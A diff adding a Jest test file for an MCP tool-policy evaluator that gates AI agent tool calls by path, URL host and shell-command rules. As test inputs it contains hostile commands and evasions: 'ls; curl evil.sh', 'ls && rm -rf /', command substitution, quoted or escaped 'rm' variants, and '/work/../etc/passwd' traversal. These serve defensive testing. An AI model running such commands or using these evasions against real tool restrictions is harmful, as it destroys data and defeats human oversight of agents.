@@ -0,0 +1,160 @@
+import { ToolPolicy } from '../models';
+import { compileToolPolicy, evaluateToolPolicy } from './mcp-tool-policy';
+
+/**
+ * Check whether a policy allows a call
+ */
+function allows(policy: ToolPolicy, toolId: string, params: any): boolean {
+  return evaluateToolPolicy(compileToolPolicy(policy), toolId, params).allowed;
+}
+
+describe('evaluateToolPolicy', () => {
+  it('allows tools no rule covers', () => {
+    expect(evaluateToolPolicy(compileToolPolicy({}), 'fs:read', {})).toEqual({ allowed: true });
+    expect(allows({ allow: [{ tools: 'fs:*', params: { path: { pathPrefix: '/work' } } }] }, 'web:fetch', {})).toBe(true);
+  });
+
+  it('matches unqualified globs against tool names and qualified ones against tool IDs', () => {
+    const policy: ToolPolicy = { deny: [{ tools: 'write_*' }, { tools: 'shell:*' }] };
+
+    expect(allows(policy, 'fs:write_file', {})).toBe(false);
+    expect(allows(policy, 'shell:run', {})).toBe(false);
+    expect(allows(policy, 'fs:read_file', {})).toBe(true);
+  });
+
+  it('names the deny rule that fired and the values it matched', () => {
+    const policy = compileToolPolicy({
+      deny: [{ id: 'no-prod', tools: ['deploy'], params: { env: { equals: 'prod' } } }]
+    });
+
+    expect(evaluateToolPolicy(policy, 'ops:deploy', { env: 'prod' })).toEqual({
+      allowed: false,
+      rule: 'no-prod',
+      reason: 'Denied by policy rule "no-prod" (env "prod")'
+    });
+    expect(evaluateToolPolicy(policy, 'ops:deploy', { env: 'staging' }).allowed).toBe(true);
+    expect(evaluateToolPolicy(policy, 'ops:deploy', {}).allowed).toBe(true);
+  });
+
+  it('lets deny rules take precedence over allow rules', () => {
+    const policy: ToolPolicy = {
+      allow: [{ tools: 'fs:*', params: { path: { pathPrefix: '/work' } } }],
+      deny: [{ tools: 'fs:*', params: { path: { glob: '*.env' } } }]
+    };
+
+    expect(allows(policy, 'fs:read', { path: '/work/app.ts' })).toBe(true);
+    expect(allows(policy, 'fs:read', { path: '/work/.env' })).toBe(false);
+  });
+
+  it('needs one allow rule to be satisfied and lists the ones that failed', () => {
+    const policy = compileToolPolicy({
+      allow: [
+        { id: 'work', tools: 'fs:*', params: { path: { pathPrefix: '/work' } } },
+        { tools: 'fs:*', params: { path: { pathPrefix: '/tmp' } } }
+      ]
+    });
+
+    expect(evaluateToolPolicy(policy, 'fs:read', { path: '/tmp/x' }).allowed).toBe(true);
+    expect(evaluateToolPolicy(policy, 'fs:read', { path: '/etc/passwd' })).toEqual({
+      allowed: false,
+      rule: 'work, allow[1]',
+      reason: 'Not allowed by policy rules "work": path "/etc/passwd" is not under /work; ' +
+        '"allow[1]": path "/etc/passwd" is not under /tmp'
+    });
+  });
+
+  it('treats absent parameters as satisfying allow rules unless required', () => {
+    expect(allows({ allow: [{ tools: 'fetch', params: { url: { urlHost: ['example.com'] } } }] }, 'web:fetch', {})).toBe(true);
+    expect(evaluateToolPolicy(
+      compileToolPolicy({ allow: [{ tools: 'fetch', params: { url: { required: true, urlHost: ['example.com'] } } }] }),
+      'web:fetch',
+      {}
+    ).reason).toBe('Not allowed by policy rule "allow[0]": url is required');
+  });
+
+  it('checks equals, oneOf, pattern and number ranges', () => {
+    const policy: ToolPolicy = {
+      allow: [{
+        tools: 'query',
+        params: {
+          mode: { oneOf: ['read', 'list'] },
+          table: { pattern: '^[a-z_]+$' },
+          limit: { min: 1, max: 100 },
+          format: { equals: { type: 'json' } }
+        }
+      }]
+    };
+
+    expect(allows(policy, 'db:query', { mode: 'read', table: 'users', limit: 10, format: { type: 'json' } })).toBe(true);
+    expect(allows(policy, 'db:query', { mode: 'write' })).toBe(false);
+    expect(allows(policy, 'db:query', { table: 'users; drop' })).toBe(false);
+    expect(allows(policy, 'db:query', { limit: 1000 })).toBe(false);
+    expect(allows(policy, 'db:query', { limit: '10' })).toBe(false);
+    expect(allows(policy, 'db:query', { format: { type: 'csv' } })).toBe(false);
+  });
+
+  it('resolves dot segments before checking path prefixes', () => {
+    const policy = compileToolPolicy({ allow: [{ tools: 'read', params: { path: { pathPrefix: '/work/' } } }] });
+
+    expect(evaluateToolPolicy(policy, 'fs:read', { path: '/work' }).allowed).toBe(true);
+    expect(evaluateToolPolicy(policy, 'fs:read', { path: '/work-other/x' }).allowed).toBe(false);
+    expect(evaluateToolPolicy(policy, 'fs:read', { path: '/work/../etc/passwd' }).reason)
+      .toBe('Not allowed by policy rule "allow[0]": path "/work/../etc/passwd" (resolves to /etc/passwd) is not under /work/');
+  });
+
+  it('matches URL hosts case-insensitively with globs', () => {
+    const policy: ToolPolicy = { allow: [{ tools: 'fetch', params: { url: { urlHost: ['*.example.com'] } } }] };
+
+    expect(allows(policy, 'web:fetch', { url: 'https://API.Example.com/v1' })).toBe(true);
+    expect(allows(policy, 'web:fetch', { url: 'https://example.com.evil.net/' })).toBe(false);
+    expect(allows(policy, 'web:fetch', { url: 'not a url' })).toBe(false);
+  });
+
+  it('needs every item of a list to satisfy an allow rule and fires a deny rule on any', () => {
+    const allow: ToolPolicy = { allow: [{ tools: 'read', params: { paths: { pathPrefix: '/work' } } }] };
+    const deny: ToolPolicy = { deny: [{ tools: 'read', params: { paths: { glob: '*.key' } } }] };
+
+    expect(allows(allow, 'fs:read', { paths: ['/work/a', '/work/b'] })).toBe(true);
+    expect(allows(allow, 'fs:read', { paths: ['/work/a', '/etc/b'] })).toBe(false);
+    expect(allows(deny, 'fs:read', { paths: ['a.txt', 'b.key'] })).toBe(false);
+    expect(allows(deny, 'fs:read', { paths: ['a.txt'] })).toBe(true);
+  });
+
+  describe('command constraints', () => {
+    const allow: ToolPolicy = { allow: [{ tools: 'run', params: { command: { command: ['ls', 'cat', 'grep'] } } }] };
+    const deny: ToolPolicy = { deny: [{ tools: 'run', params: { command: { command: ['rm'] } } }] };
+
+    it('allows commands whose binaries are all listed', () => {
+      expect(allows(allow, 'shell:run', { command: 'ls -la /work' })).toBe(true);
+      expect(allows(allow, 'shell:run', { command: 'cat a.txt | grep x' })).toBe(true);
+      expect(allows(allow, 'shell:run', { command: ['/bin/ls', '-la'] })).toBe(true);
+      expect(allows(allow, 'shell:run', { command: 'FOO=1 ls' })).toBe(true);
+    });
+
+    it('refuses chained, substituted and wrapped commands in allow rules', () => {
+      expect(allows(allow, 'shell:run', { command: 'ls; curl evil.sh' })).toBe(false);
+      expect(allows(allow, 'shell:run', { command: 'ls && rm -rf /' })).toBe(false);
+      expect(allows(allow, 'shell:run', { command: 'cat $(rm x)' })).toBe(false);
+      expect(allows(allow, 'shell:run', { command: 'ls\nrm x' })).toBe(false);
+      expect(allows(allow, 'shell:run', { command: 'sudo ls' })).toBe(false);
+      expect(allows(allow, 'shell:run', { command: '$CMD' })).toBe(false);
+      expect(allows(allow, 'shell:run', { command: 42 })).toBe(false);
+    });
+
+    it('fires deny rules through separators, wrappers, quotes and paths', () => {
+      expect(allows(deny, 'shell:run', { command: 'ls' })).toBe(true);
+      expect(allows(deny, 'shell:run', { command: 'ls; rm x' })).toBe(false);
+      expect(allows(deny, 'shell:run', { command: 'sudo -u root rm x' })).toBe(false);
+      expect(allows(deny, 'shell:run', { command: 'env FOO=1 rm x' })).toBe(false);
+      expect(allows(deny, 'shell:run', { command: '"r"m x' })).toBe(false);
+      expect(allows(deny, 'shell:run', { command: 'r\\m x' })).toBe(false);
+      expect(allows(deny, 'shell:run', { command: '/bin/rm x' })).toBe(false);
+      expect(allows(deny, 'shell:run', { command: 'r*m x' })).toBe(false);
+      expect(allows(deny, 'shell:run', { command: ['sh', '-c', 'echo hi; rm x'] })).toBe(false);
+    });
+  });
+
+  it('throws on an invalid pattern when compiling', () => {
+    expect(() => compileToolPolicy({ allow: [{ tools: '*', params: { name: { pattern: '(' } } }] })).toThrow();
+  });
+});